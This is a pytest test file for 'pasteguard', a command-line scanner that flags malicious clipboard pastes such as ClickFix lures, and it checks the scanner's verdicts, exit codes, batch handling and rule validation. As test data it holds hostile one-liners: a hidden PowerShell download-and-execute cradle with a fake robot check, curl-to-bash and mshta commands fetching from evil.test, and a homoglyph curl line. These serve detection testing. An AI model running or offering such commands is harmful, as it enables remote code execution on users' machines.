"""The `pasteguard` command line as a person or a script meets it: output, exit codes, errors.

A few cases run the installed console script end to end (a real process, real stdin, a real X
clipboard); the rest call `app.cli.main` in-process, which is the same code without the start-up.
"""

from __future__ import annotations

import io
import json
import os
import pickle
import re
import shutil
import subprocess
import sys
import time
from collections.abc import Iterator, Sequence
from pathlib import Path
from typing import Any

import pytest

from app import __version__
from app.cli import main
from app.commands import scan
from app.detection import Context, Engine, Level, PasteTarget
from app.detection.rules import default_rules_dir, load_rules
from app.detection.scoring import (
    HARMLESS_TARGET_MALUS,
    MALICIOUS_AT,
    RUN_BOX_BONUS,
    SUSPICIOUS_AT,
    WEB_SOURCE_BONUS,
)
from app.detection.signals import SIGNALS
from tests.desktop import start_xvfb

PASTEGUARD = Path(sys.executable).parent / "pasteguard"

# A ClickFix lure as pages put it on the clipboard: a PowerShell cradle and a fake check.
CLICKFIX = (
    'powershell -w hidden -c "iex(irm https://evil.test/a.ps1)"'
    "          # I am not a robot - Verification ID: 4821"
)
INSTALLER = "irm https://get.scoop.sh | iex"  # the official Scoop installer
PIPE_TO_SHELL = "curl -fsSL https://evil.test/install.sh | bash"  # suspicious, not malicious
HARMLESS = "git status"
WEB_PAGE = "https://evil.test/fix-error"

JSON_KEYS = {"level", "score", "summary", "rules", "findings", "layers", "indicators"}
JSON_KEYS |= {"elapsed_ms", "complete"}
FINDING_KEYS = {"rule_id", "title", "explanation", "technique", "evidence", "layer"}
BATCH_KEYS = {"id", "level", "score", "rules", "summary", "elapsed_ms"}


@pytest.fixture(autouse=True)
def _private_profile(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Never touch the real per-user folders, also not from the child processes."""
    monkeypatch.setenv("PASTEGUARD_DATA_DIR", str(tmp_path / "data"))
    monkeypatch.setenv("PASTEGUARD_CONFIG_DIR", str(tmp_path / "config"))
    monkeypatch.setenv("PASTEGUARD_POLICY", str(tmp_path / "no-policy.json"))


def run_pasteguard(
    args: Sequence[str], stdin: bytes = b"", env: dict[str, str] | None = None
) -> subprocess.CompletedProcess[str]:
    """Run the installed console script as a user would, bytes in, text out."""
    assert PASTEGUARD.exists(), f"the console script is expected at {PASTEGUARD}"
    done = subprocess.run(
        [str(PASTEGUARD), *args],
        input=stdin,
        capture_output=True,
        env=env if env is not None else dict(os.environ),
        timeout=60,
        check=False,
    )
    assert "Traceback" not in done.stderr.decode("utf-8", "replace"), done.stderr
    return subprocess.CompletedProcess(
        done.args,
        done.returncode,
        done.stdout.decode("utf-8"),
        done.stderr.decode("utf-8"),
    )


def run_main(args: Sequence[str], capsys: pytest.CaptureFixture[str]) -> tuple[int, str, str]:
    """`pasteguard ARGS` in-process: exit status, standard output, standard error."""
    try:
        code = main(list(args))
    except SystemExit as exc:  # argparse exits on usage errors, --help and --version
        code = exc.code if isinstance(exc.code, int) else 1
    out, err = capsys.readouterr()
    return code, out, err


def feed_stdin(monkeypatch: pytest.MonkeyPatch, data: bytes) -> None:
    monkeypatch.setattr(sys, "stdin", io.TextIOWrapper(io.BytesIO(data), encoding="utf-8"))


def scan_json(args: Sequence[str], capsys: pytest.CaptureFixture[str]) -> dict[str, Any]:
    code, out, err = run_main(["scan", "--json", *args], capsys)
    assert code == 0, err
    result: dict[str, Any] = json.loads(out)
    return result


# -- the basics, end to end ----------------------------------------------------------------------


def test_version_names_the_program_and_its_version() -> None:
    done = run_pasteguard(["--version"])
    assert done.returncode == 0
    assert done.stdout.strip() == f"pasteguard {__version__}"


def test_scan_explains_a_lure_in_readable_defanged_words(engine: Engine) -> None:
    expected = engine.analyze(CLICKFIX)
    assert expected.level is Level.MALICIOUS
    done = run_pasteguard(["scan", CLICKFIX])
    assert done.returncode == 0, done.stderr
    out = done.stdout
    first = out.splitlines()[0]
    assert "MALICIOUS" in first and f"{expected.score}/100" in first
    assert expected.summary in out
    for rule_id in expected.rule_ids:
        assert f"[{rule_id}]" in out
    for finding in expected.findings:
        assert finding.explanation in out
    # The attacker's address is shown, but never as something a terminal would make clickable.
    assert "https://" not in out.lower() and "evil.test" not in out
    assert "hxxps://evil[.]test" in out


def test_scan_of_harmless_text_says_so() -> None:
    done = run_pasteguard(["scan", HARMLESS])
    assert done.returncode == 0
    assert "CLEAN" in done.stdout.splitlines()[0]
    assert "Nothing risky found." in done.stdout


def test_scan_reads_standard_input(engine: Engine) -> None:
    done = run_pasteguard(["scan", "-", "--json"], stdin=CLICKFIX.encode())
    assert done.returncode == 0, done.stderr
    result = json.loads(done.stdout)
    assert result["level"] == "malicious"
    assert result["rules"] == engine.analyze(CLICKFIX).rule_ids


def test_scan_of_binary_standard_input_gives_a_verdict_not_a_crash() -> None:
    # Invalid UTF-8, a NUL and a BOM-like prefix around a real command: decoded leniently.
    data = b"\xff\xfe\x00mshta https://evil.test/a.hta \xc3\x28 \xed\xa0\x80\x80"
    done = run_pasteguard(["scan", "-", "--json"], stdin=data)
    assert done.returncode == 0, done.stderr
    result = json.loads(done.stdout)
    assert result["level"] == "malicious"
    assert result["complete"] is True


def test_scan_of_empty_standard_input_is_clean(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    feed_stdin(monkeypatch, b"")
    result = scan_json(["-"], capsys)
    assert result["level"] == "clean"


def test_scan_of_binary_standard_input_in_process(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    feed_stdin(monkeypatch, bytes(range(256)) * 64 + CLICKFIX.encode("utf-16-le"))
    code, out, err = run_main(["scan", "-"], capsys)
    assert code == 0, err
    first = out.splitlines()[0]
    assert re.search(r"\b(CLEAN|INFO|SUSPICIOUS|MALICIOUS) \(score \d{1,3}/100\)", first)


# -- JSON ----------------------------------------------------------------------------------------


def test_scan_json_has_the_full_verdict(capsys: pytest.CaptureFixture[str]) -> None:
    result = scan_json([CLICKFIX], capsys)
    assert set(result) >= JSON_KEYS
    assert result["level"] == "malicious"
    assert 70 <= result["score"] <= 100
    assert result["summary"].strip()
    assert result["complete"] is True
    assert isinstance(result["elapsed_ms"], int | float) and result["elapsed_ms"] > 0
    assert result["findings"], "a malicious verdict must say why"
    for finding in result["findings"]:
        assert set(finding) >= FINDING_KEYS
        assert finding["technique"].startswith("T1")
        assert finding["explanation"].strip()
        assert "https://" not in finding["evidence"].lower()
    assert result["rules"] == [f["rule_id"] for f in result["findings"]]
    assert result["layers"][0]["name"] == "raw" and result["layers"][0]["text"] == CLICKFIX
    urls = [i for i in result["indicators"] if i["kind"] == "url"]
    assert [u["value"] for u in urls] == ["https://evil.test/a.ps1"]
    assert [u["display"] for u in urls] == ["hxxps://evil[.]test/a.ps1"]


# -- where the text came from and where it goes --------------------------------------------------


def test_an_installer_one_liner_is_info_without_context(capsys: pytest.CaptureFixture[str]) -> None:
    result = scan_json([INSTALLER], capsys)
    assert result["level"] == "info"
    assert "Scoop" in result["summary"]


def test_an_installer_from_a_web_page_into_the_run_dialog_is_suspicious(
    capsys: pytest.CaptureFixture[str],
) -> None:
    result = scan_json([INSTALLER, "--source", WEB_PAGE, "--target", "run_dialog"], capsys)
    assert Level.parse(result["level"]) >= Level.SUSPICIOUS
    assert result["score"] >= SUSPICIOUS_AT
    assert result["source"] == WEB_PAGE and result["target"] == "run_dialog"


@pytest.mark.parametrize(
    ("args", "change"),
    [
        (["--source", WEB_PAGE], WEB_SOURCE_BONUS),
        (["--source", "http://evil.test/"], WEB_SOURCE_BONUS),
        (["--source", "Notepad"], 0),  # an app, not a web page
        (["--source", WEB_PAGE, "--target", "terminal"], 0),  # a page alone: no evidence there
        # a command in the Run box or address bar: at least suspicious; from a page, malicious
        (["--target", "run_dialog"], max(RUN_BOX_BONUS, SUSPICIOUS_AT - 5)),
        (["--target", "explorer_bar"], max(RUN_BOX_BONUS, SUSPICIOUS_AT - 5)),
        (["--target", "terminal"], 0),
        (["--source", WEB_PAGE, "--target", "run_dialog"], MALICIOUS_AT - 5),
    ],
)
def test_context_changes_the_score_as_documented(
    capsys: pytest.CaptureFixture[str], args: list[str], change: int
) -> None:
    base = scan_json([INSTALLER], capsys)
    assert base["score"] == 5  # the official installer's weight, which the changes add to
    result = scan_json([INSTALLER, *args], capsys)
    assert result["score"] == min(100, base["score"] + change)


def test_a_harmless_target_lowers_the_score_but_keeps_the_finding(
    capsys: pytest.CaptureFixture[str],
) -> None:
    base = scan_json([PIPE_TO_SHELL], capsys)
    result = scan_json([PIPE_TO_SHELL, "--target", "other"], capsys)
    assert result["score"] == base["score"] - HARMLESS_TARGET_MALUS
    assert Level.parse(result["level"]) >= Level.INFO
    assert result["rules"] == base["rules"]


def test_readable_output_shows_the_context_defanged(capsys: pytest.CaptureFixture[str]) -> None:
    code, out, _ = run_main(
        ["scan", INSTALLER, "--source", WEB_PAGE, "--target", "run_dialog"], capsys
    )
    assert code == 0
    assert "MALICIOUS" in out.splitlines()[0]  # a web page's command into the Run box
    assert "hxxps://evil[.]test/fix-error" in out and "target: run_dialog" in out
    assert "https://" not in out.lower()


# -- exit codes for scripts ----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "fail_on", "code"),
    [
        (CLICKFIX, "malicious", 1),
        (CLICKFIX, "suspicious", 1),
        (PIPE_TO_SHELL, "suspicious", 1),
        (PIPE_TO_SHELL, "malicious", 0),
        (INSTALLER, "suspicious", 0),
        (HARMLESS, "suspicious", 0),
        (HARMLESS, "malicious", 0),
    ],
)
def test_fail_on_exits_1_when_the_level_is_reached(
    capsys: pytest.CaptureFixture[str], engine: Engine, text: str, fail_on: str, code: int
) -> None:
    level = engine.analyze(text).level
    assert (level >= Level.parse(fail_on)) == (code == 1)  # the table above is about real levels
    status, out, err = run_main(["scan", text, "--fail-on", fail_on], capsys)
    assert status == code, err
    assert out.strip(), "the verdict is printed whatever the exit status"


def test_fail_on_end_to_end() -> None:
    assert run_pasteguard(["scan", CLICKFIX, "--fail-on", "malicious"]).returncode == 1
    assert run_pasteguard(["scan", HARMLESS, "--fail-on", "suspicious"]).returncode == 0


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["scan"], "required"),
        (["scan", "x", "--target", "desk"], "desk"),
        (["scan", "x", "--fail-on", "info"], "--fail-on"),
        (["scan", "x", "--fail-on", "bogus"], "--fail-on"),
        (["scan", "x", "--clipboard"], "not allowed"),
        (["scan", "--jsonl", "/nonexistent/batch.jsonl"], "/nonexistent/batch.jsonl"),
        (["rules", "check", "/nonexistent/rules.yaml"], "/nonexistent/rules.yaml"),
        (["frobnicate"], "invalid choice"),
    ],
)
def test_usage_errors_exit_2_with_a_message(
    capsys: pytest.CaptureFixture[str], args: list[str], message: str
) -> None:
    code, out, err = run_main(args, capsys)
    assert code == 2
    assert message in err
    assert out == ""


def test_usage_error_end_to_end() -> None:
    done = run_pasteguard(["scan", "x", "--target", "desk"])
    assert done.returncode == 2
    assert "unknown paste target 'desk'" in done.stderr
    assert done.stdout == ""


@pytest.mark.parametrize(
    "args",
    [
        ["scan", HARMLESS],
        ["scan", "--json", "сurl https://evil.test/x | sh  # ✅ verified"],
        ["scan", "--jsonl", "-"],
    ],
)
def test_output_survives_a_console_that_is_not_utf8(args: list[str]) -> None:
    # Windows writes redirected output (`pasteguard scan ... > out.txt`, a pipe into a script)
    # in the ANSI code page, cp1252 in Western Europe; the verdict must still come out.
    env = dict(os.environ, PYTHONIOENCODING="cp1252")
    env.pop("PYTHONUTF8", None)
    line = json.dumps(
        {"id": "запрос ✅", "text": "mshta https://evil.test/a.hta"}, ensure_ascii=False
    )
    done = subprocess.run(
        [str(PASTEGUARD), *args],
        input=(line + "\n").encode("utf-8"),
        capture_output=True,
        env=env,
        timeout=60,
        check=False,
    )
    assert done.returncode == 0, done.stderr.decode("utf-8", "replace")
    assert done.stdout.strip()
    assert b"Traceback" not in done.stderr


# -- batches -------------------------------------------------------------------------------------


def _jsonl(lines: Sequence[object]) -> str:
    return "".join((x if isinstance(x, str) else json.dumps(x)) + "\n" for x in lines)


BATCH: list[object] = [
    {"id": "lure", "text": CLICKFIX},
    {"id": 2, "text": HARMLESS},
    "this is not JSON",
    ["an", "array"],
    {"id": "no-text"},
    {"id": "number-text", "text": 42},
    {"id": "bad-target", "text": HARMLESS, "target": "nowhere"},
    {"id": "target-not-text", "text": HARMLESS, "target": 5},
    {"id": "source-not-text", "text": HARMLESS, "source": ["x"]},
    {"id": "installer", "text": INSTALLER},
    {"id": "installer-web-run", "text": INSTALLER, "source": WEB_PAGE, "target": "run_dialog"},
    {"text": PIPE_TO_SHELL},
    {"id": "last", "text": "echo done"},
]
# line index -> (the id the error carries, a word the message must contain)
BATCH_ERRORS = {
    2: (None, "JSON"),
    3: (None, "object"),
    4: ("no-text", "text"),
    5: ("number-text", "text"),
    6: ("bad-target", "target"),
    7: ("target-not-text", "target"),
    8: ("source-not-text", "source"),
}


def _check_batch(out: str, engine: Engine) -> list[dict[str, Any]]:
    results = [json.loads(line) for line in out.splitlines()]
    assert len(results) == len(BATCH), "one output line per input line, none lost"
    for i, (item, result) in enumerate(zip(BATCH, results, strict=True)):
        if i in BATCH_ERRORS:
            assert set(result) == {"id", "error"}, result
            assert result["id"] == BATCH_ERRORS[i][0]
            assert result["error"].strip()
            continue
        assert isinstance(item, dict)
        assert set(result) == BATCH_KEYS, result
        assert result["id"] == item.get("id")
        context = Context(
            source=item.get("source"), target=PasteTarget.parse(item.get("target", "unknown"))
        )
        expected = engine.analyze(item["text"], context)
        assert result["level"] == expected.level.label
        assert result["score"] == expected.score
        assert result["rules"] == expected.rule_ids
        assert result["summary"] == expected.summary
        assert result["elapsed_ms"] >= 0
    return results


def test_batch_from_a_file_keeps_order_and_survives_bad_lines(
    capsys: pytest.CaptureFixture[str], engine: Engine, tmp_path: Path
) -> None:
    batch = tmp_path / "batch.jsonl"
    batch.write_text(_jsonl(BATCH), encoding="utf-8")
    code, out, err = run_main(["scan", "--jsonl", str(batch)], capsys)
    assert code == 0, err
    results = _check_batch(out, engine)
    by_id = {r["id"]: r for r in results}
    assert by_id["installer"]["level"] == "info"
    assert Level.parse(by_id["installer-web-run"]["level"]) >= Level.SUSPICIOUS
    assert by_id["lure"]["level"] == "malicious"


@pytest.mark.parametrize(
    "index", [pytest.param(i, id=f"line-{i}-{word}") for i, (_, word) in BATCH_ERRORS.items()]
)
def test_a_batch_error_says_what_is_wrong(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, index: int
) -> None:
    feed_stdin(monkeypatch, _jsonl([BATCH[index]]).encode())
    code, out, err = run_main(["scan", "--jsonl", "-"], capsys)
    assert code == 0, err
    result = json.loads(out)
    assert BATCH_ERRORS[index][1] in result["error"], f"not clear enough: {result['error']!r}"


HOSTILE_LINES = [
    '{"id": ' + "9" * 5000 + ', "text": "x"}',  # more digits than Python converts
    "[" * 100_000 + "]" * 100_000,  # deeper than any parser recurses
    '{"id": NaN, "text": "x"}',
    '{"id": Infinity, "text": "x"}',
    '{"id": -Infinity, "text": "x"}',
    '{"id": 1e999, "text": "x"}',  # a float that overflows to infinity
    '{"id": {"deep": ' + "[" * 500 + "]" * 500 + '}, "text": "echo ok"}',
]


def _not_json(name: str) -> None:
    raise AssertionError(f"{name} is not JSON")


def test_every_hostile_batch_line_gets_an_answer_in_valid_json(engine: Engine) -> None:
    """No traceback, no abandoned batch, no NaN in the output: one JSON answer per line."""
    lines = [*HOSTILE_LINES, json.dumps({"id": "after", "text": CLICKFIX})]
    done = run_pasteguard(["scan", "--jsonl", "-"], stdin=("\n".join(lines) + "\n").encode())
    assert done.returncode == 0 and "Traceback" not in done.stderr, done.stderr
    answers = done.stdout.splitlines()
    assert len(answers) == len(lines)
    for answer in answers:  # strict JSON: NaN and Infinity are not JSON
        json.loads(answer, parse_constant=_not_json)
    results = [json.loads(a) for a in answers]
    assert all("error" in r and r["id"] is None for r in results[:6])
    assert results[6]["level"] == "clean"  # a deep but valid id is echoed
    assert results[-1] == {**results[-1], "id": "after", "level": "malicious"}


def test_batch_from_standard_input_end_to_end(engine: Engine) -> None:
    data = _jsonl(BATCH).encode()
    done = run_pasteguard(["scan", "--jsonl", "-", "--fail-on", "malicious"], stdin=data)
    assert done.returncode == 1, "the lure in the batch reaches 'malicious'"
    _check_batch(done.stdout, engine)


def test_batch_line_with_invalid_utf8_still_gets_a_verdict() -> None:
    data = (
        b'{"id": "a", "text": "mshta https://evil.test/a.hta \xff\xfe"}\n'
        + b'{"id": "b", "text": "git status"}\n'
    )
    done = run_pasteguard(["scan", "--jsonl", "-"], stdin=data)
    assert done.returncode == 0, done.stderr
    results = [json.loads(line) for line in done.stdout.splitlines()]
    assert [r["id"] for r in results] == ["a", "b"]
    assert results[0]["level"] == "malicious" and results[1]["level"] == "clean"


def test_batch_lines_override_the_command_line_context(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    lines = [
        {"id": "default", "text": INSTALLER},  # takes --source and --target
        {"id": "terminal", "text": INSTALLER, "target": "terminal"},  # keeps --source
        {"id": "own-source", "text": INSTALLER, "source": "Notepad"},  # keeps --target
    ]
    base = scan_json([INSTALLER], capsys)["score"]  # the installer without any context
    feed_stdin(monkeypatch, _jsonl(lines).encode())
    code, out, err = run_main(
        ["scan", "--jsonl", "-", "--source", WEB_PAGE, "--target", "run_dialog"], capsys
    )
    assert code == 0, err
    results = {r["id"]: r for r in map(json.loads, out.splitlines())}
    assert Level.parse(results["default"]["level"]) >= Level.SUSPICIOUS
    assert results["terminal"]["score"] == base  # a web page alone is no evidence there
    assert results["own-source"]["score"] == SUSPICIOUS_AT  # a command in the Run box


# one text checked for several targets, as the case files do, with other texts between
REPEATS: list[dict[str, str]] = [
    {"id": "a-unknown", "text": INSTALLER},
    {"id": "a-run", "text": INSTALLER, "source": WEB_PAGE, "target": "run_dialog"},
    {"id": "a-terminal", "text": INSTALLER, "source": WEB_PAGE, "target": "terminal"},
    {"id": "b", "text": CLICKFIX, "target": "run_dialog"},
    {"id": "b-console", "text": CLICKFIX, "source": WEB_PAGE, "target": "browser_console"},
    {"id": "a-again", "text": INSTALLER, "target": "run_dialog"},
    {"id": "c", "text": "echo \u202e" + "A" * 5000, "target": "terminal"},
    {"id": "c-run", "text": "echo \u202e" + "A" * 5000, "target": "run_dialog"},
]


def test_a_text_repeated_for_other_targets_gets_each_targets_own_verdict(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, engine: Engine
) -> None:
    """The lines that repeat the text before them are verdicted from its reading
    (scan.LastReading): each answer is still the one a fresh reading in its context gives."""
    feed_stdin(monkeypatch, _jsonl(REPEATS).encode())
    code, out, err = run_main(["scan", "--jsonl", "-"], capsys)
    assert code == 0, err
    results = [json.loads(line) for line in out.splitlines()]
    assert [r["id"] for r in results] == [item["id"] for item in REPEATS]
    for item, result in zip(REPEATS, results, strict=True):
        context = Context(item.get("source"), PasteTarget.parse(item.get("target", "unknown")))
        expected = engine.analyze(item["text"], context)
        got = (result["level"], result["score"], result["rules"], result["summary"])
        assert got == (expected.level.label, expected.score, expected.rule_ids, expected.summary)
        assert result["elapsed_ms"] >= 0
    levels = {r["id"]: r["level"] for r in results}
    assert levels["a-unknown"] != levels["a-run"], "the context still counts on a repeat"


def test_a_repeated_text_is_read_once_and_another_text_is_read_again(engine: Engine) -> None:
    last = scan.LastReading()
    read: list[str] = []
    examine = engine.examine

    def counted(text: str | bytes) -> Any:
        read.append(str(text))
        return examine(text)

    engine.examine = counted  # type: ignore[method-assign]
    try:
        for item in REPEATS:
            context = Context(item.get("source"), PasteTarget.parse(item.get("target", "unknown")))
            last.verdict(engine, item["text"], context)
        fallback = Engine(interpreters=False)  # another engine never gets this one's reading
        last.verdict(fallback, REPEATS[-1]["text"], Context())
    finally:
        del engine.examine
    texts = [item["text"] for item in REPEATS]
    assert read == [INSTALLER, CLICKFIX, INSTALLER, texts[-1]]
    assert last.engine is fallback
    assert pickle.loads(pickle.dumps(last)).content is None, "a spawned worker starts empty"


def test_batch_fail_on_uses_the_worst_line(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    batch = tmp_path / "batch.jsonl"
    batch.write_text(_jsonl([{"id": 1, "text": HARMLESS}, {"id": 2, "text": PIPE_TO_SHELL}]))
    assert run_main(["scan", "--jsonl", str(batch), "--fail-on", "suspicious"], capsys)[0] == 1
    assert run_main(["scan", "--jsonl", str(batch), "--fail-on", "malicious"], capsys)[0] == 0


# -- the clipboard -------------------------------------------------------------------------------


@pytest.fixture
def x_display() -> Iterator[str]:
    """A private Xvfb server, started for the test and stopped after it."""
    assert shutil.which("xclip"), "xclip is missing: `make test` installs it (Makefile APT_PKGS)"
    display, server = start_xvfb(dict(os.environ))
    try:
        yield display
    finally:
        server.terminate()
        server.wait(timeout=10)


@pytest.mark.desktop
def test_scan_clipboard_reads_the_real_x_clipboard(x_display: str, engine: Engine) -> None:
    text = CLICKFIX + "\n# ✅ human check"
    env = dict(os.environ, DISPLAY=x_display)
    env.pop("WAYLAND_DISPLAY", None)
    # -quiet keeps xclip in the foreground, owning the clipboard until it is stopped.
    owner = subprocess.Popen(
        ["xclip", "-quiet", "-selection", "clipboard"],
        stdin=subprocess.PIPE,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        env=env,
    )
    try:
        assert owner.stdin is not None
        owner.stdin.write(text.encode())
        owner.stdin.close()
        deadline = time.monotonic() + 10
        while True:
            read = subprocess.run(
                ["xclip", "-selection", "clipboard", "-o"],
                capture_output=True,
                env=env,
                timeout=10,
                check=False,
            )
            if read.stdout.decode("utf-8", "replace") == text:
                break
            assert time.monotonic() < deadline, "xclip never took the clipboard"
            time.sleep(0.05)
        done = run_pasteguard(["scan", "--clipboard", "--json"], env=env)
    finally:
        owner.terminate()
        owner.wait(timeout=5)
    assert done.returncode == 0, done.stderr
    result = json.loads(done.stdout)
    expected = engine.analyze(text)
    assert result["level"] == "malicious"
    assert result["rules"] == expected.rule_ids
    assert result["layers"][0]["text"] == text, "the clipboard text arrives unchanged"


def test_scan_clipboard_without_a_display_is_a_usage_error() -> None:
    env = dict(os.environ)
    env.pop("DISPLAY", None)
    env.pop("WAYLAND_DISPLAY", None)
    done = run_pasteguard(["scan", "--clipboard"], env=env)
    assert done.returncode == 2
    assert "cannot read the clipboard: no desktop session here" in done.stderr
    assert done.stdout == ""


# -- rule files ----------------------------------------------------------------------------------


def test_rules_check_accepts_the_built_in_rules(capsys: pytest.CaptureFixture[str]) -> None:
    rules, errors = load_rules([default_rules_dir()], SIGNALS)
    assert rules and not errors
    code, out, _ = run_main(["rules", "check"], capsys)
    assert code == 0
    assert out.strip().splitlines()[-1] == f"{len(rules)} rules loaded, 0 errors"


def good_rule(rule_id: str) -> str:
    """A valid rule file of 8 lines; the bad rule of each case below starts on line 9."""
    return (
        "rules:\n"
        f"  - id: {rule_id}\n"
        "    title: A good rule\n"
        "    explanation: It matches a word.\n"
        "    technique: T1059\n"
        "    weight: 10\n"
        "    match:\n"
        "      any: ['good']\n"
    )


# case -> (the rule appended to a good one, the line of the error, what the message says)
BAD_RULES = {
    "broken-yaml": ("  - id: T-BROKEN\n    title: colon: in a plain value\n", 10, "invalid YAML"),
    "no-explanation": (
        "  - id: T-NO-EXPLANATION\n    title: No words\n    technique: T1059\n"
        "    weight: 10\n    match:\n      any: ['x']\n",
        9,
        "missing or empty 'explanation'",
    ),
    "lookahead": (
        "  - id: T-LOOKAHEAD\n    title: Lookahead\n    explanation: Uses a lookahead.\n"
        "    technique: T1059\n    weight: 10\n    match:\n      any: ['foo(?=x)']\n",
        15,
        "does not compile in RE2",
    ),
    "unknown-key": (
        "  - id: T-UNKNOWN-KEY\n    title: Extra key\n    explanation: Has a typo.\n"
        "    technique: T1059\n    weight: 10\n    severty: high\n    match:\n      any: ['y']\n",
        9,
        "unknown keys: severty",
    ),
    "duplicate-id": (
        "  - id: T-GOOD-duplicate-id\n    title: Again\n    explanation: Same id.\n"
        "    technique: T1059\n    weight: 10\n    match:\n      any: ['z']\n",
        9,
        "duplicate rule id T-GOOD-duplicate-id (first at ",
    ),
    "unknown-signal": (
        "  - id: T-SIGNAL\n    title: No such signal\n    explanation: Names nothing.\n"
        "    technique: T1059\n    weight: 10\n    signal: no-such-signal\n",
        9,
        "unknown signal 'no-such-signal'",
    ),
}


def write_rule_file(folder: Path, case: str) -> Path:
    path = folder / f"{case}.yaml"
    path.write_text(good_rule(f"T-GOOD-{case}") + BAD_RULES[case][0], encoding="utf-8")
    return path


@pytest.mark.parametrize("case", sorted(BAD_RULES))
def test_rules_check_reports_each_error_with_file_and_line(
    capsys: pytest.CaptureFixture[str], tmp_path: Path, case: str
) -> None:
    _tail, line, message = BAD_RULES[case]
    path = write_rule_file(tmp_path, case)
    code, out, _ = run_main(["rules", "check", str(path)], capsys)
    assert code == 1
    errors = [x for x in out.splitlines() if x.startswith(f"{path}:")]
    assert len(errors) == 1, out
    assert errors[0].startswith(f"{path}:{line}: "), out
    assert message in errors[0]
    assert out.strip().splitlines()[-1].endswith("1 error")


def test_rules_check_reports_every_error_of_every_file(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    for case in BAD_RULES:
        write_rule_file(tmp_path, case)
    done = run_pasteguard(["rules", "check", str(tmp_path)])
    assert done.returncode == 1
    for case, (_tail, line, message) in BAD_RULES.items():
        pattern = "^" + re.escape(f"{tmp_path / case}.yaml:{line}: ") + ".*" + re.escape(message)
        assert re.search(pattern, done.stdout, re.M), f"{case}: {done.stdout}"
    assert done.stdout.strip().splitlines()[-1].endswith(f", {len(BAD_RULES)} errors")


def test_scan_with_a_bad_extra_rule_file_is_a_usage_error(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    _tail, line, message = BAD_RULES["lookahead"]
    path = write_rule_file(tmp_path, "lookahead")
    code, out, err = run_main(["scan", HARMLESS, "--rules", str(path)], capsys)
    assert code == 2
    assert f"{path}:{line}: " in err and message in err
    assert out == ""


def test_pasteguard_strict_is_read_once_by_the_command_line_and_reaches_the_engine(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    def broken(self: Engine, text: object, clock: object) -> object:
        raise RuntimeError("a bug in the engine")

    monkeypatch.setattr(Engine, "_examine", broken)
    monkeypatch.setenv("PASTEGUARD_STRICT", "0")  # as a person runs it: the bug is outlived
    verdict = json.loads(run_main(["scan", "--json", "echo hello"], capsys)[1])
    assert verdict["level"] == "suspicious"  # an unfinished reading is never `clean`
    monkeypatch.setenv("PASTEGUARD_STRICT", "1")  # as the tests run it: the bug surfaces
    with pytest.raises(RuntimeError, match="a bug in the engine"):
        run_main(["scan", "--json", "echo hello"], capsys)


class _CountingOut(io.StringIO):
    """Standard output as PYTHONUNBUFFERED makes it: every write reaches the reader."""

    def __init__(self) -> None:
        super().__init__()
        self.writes = 0

    def write(self, text: str) -> int:
        self.writes += 1
        return super().write(text)


def test_a_batch_writes_its_answers_in_blocks_in_order(engine: Engine, tmp_path: Path) -> None:
    # one write per answer was one system call and one wake-up of the reader per line when
    # standard output is unbuffered (PYTHONUNBUFFERED, common in containers and CI)
    import argparse

    from app.commands import scan

    items = [{"id": i, "text": "echo hi" if i % 2 else CLICKFIX} for i in range(600)]
    batch = tmp_path / "batch.jsonl"
    batch.write_text(_jsonl(items), encoding="utf-8")
    args = argparse.Namespace(
        jsonl=str(batch), source=None, target=PasteTarget.UNKNOWN, fail_on=Level.MALICIOUS,
        rules=None, strict=True,
    )  # fmt: skip
    out = _CountingOut()
    assert scan._scan_batch(args, engine, out) == 1  # the worst line is malicious
    answers = [json.loads(line) for line in out.getvalue().splitlines()]
    assert [a["id"] for a in answers] == [item["id"] for item in items]
    assert {a["level"] for a in answers[::2]} == {"malicious"}
    assert out.writes < len(items) // 10, f"{out.writes} writes for {len(items)} answers"


@pytest.mark.parametrize(
    ("argv", "command", "word"),
    [
        (["pause", "15"], "pause", "15"),
        (["scan", "x", "--data-dir", "/tmp"], "scan", "--data-dir /tmp"),
        (["autostart", "status", "now"], "autostart status", "now"),
    ],
)
def test_a_word_a_command_does_not_take_is_named_with_that_commands_usage(
    argv: list[str], command: str, word: str, capsys: pytest.CaptureFixture[str]
) -> None:
    """`pasteguard pause 15` said "usage: pasteguard [-h] [--version] COMMAND ..." and
    "pasteguard: error: unrecognized arguments: 15": the top-level usage, nothing about pause
    and its --minutes."""
    code, out, err = run_main(argv, capsys)
    assert code == 2 and out == ""
    assert f"usage: pasteguard {command} " in err
    assert f"pasteguard {command}: error: unrecognized arguments: {word}" in err
